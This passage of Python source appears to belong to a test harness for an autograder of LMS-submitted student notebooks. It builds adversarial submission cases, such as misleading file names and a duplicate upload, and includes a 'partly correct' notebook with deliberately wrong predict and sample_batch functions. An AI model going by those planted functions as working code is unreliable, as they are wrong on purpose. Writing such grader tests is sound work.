              _with_neighbours(lambda kit: {
                  "alice_1000_77_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "stub"))}),
              1, deserved=0.0),
    LmsAttack("same_lms_id_two_uploads", "one user (LMS id 51) uploads twice: only the latest counts", 8,
              _with_neighbours(lambda kit: {
                  "Sam Poe_51_assignsubmission_file_svm.ipynb": _dump(student_notebook(kit, "correct")),
                  "Sam Poe_51_assignsubmission_file_svm-1.ipynb": _dump(student_notebook(kit, "stub"))}),
              1),
]
LMS_BY_NAME = {a.name: a for a in LMS_ATTACKS}


def partly_correct(kit: Kit) -> bytes:
    """The honest neighbour who gets some parts wrong: predict and sample_batch return wrong values."""
    nb = student_notebook(kit, "correct")
    append(cell_defining(nb, "predict"), "def predict(W, X):\n    return np.zeros(X.shape[0], dtype=int)")
    append(cell_defining(nb, "sample_batch"),
           "def sample_batch(X, y, batch_size, rng):\n    return X[:batch_size], y[:batch_size]")
    return _dump(nb)


def lms_files(attack: LmsAttack, kit: Kit) -> dict[str, bytes]:
    neighbours = {"alice": _dump(student_notebook(kit, "correct")), "bob": partly_correct(kit)}
    return attack.make(kit, neighbours)


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i, (name, data) in enumerate(sorted(files.items())):
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 1, 12, 0, i % 60))
            zf.writestr(info, data)
    return buf.getvalue()
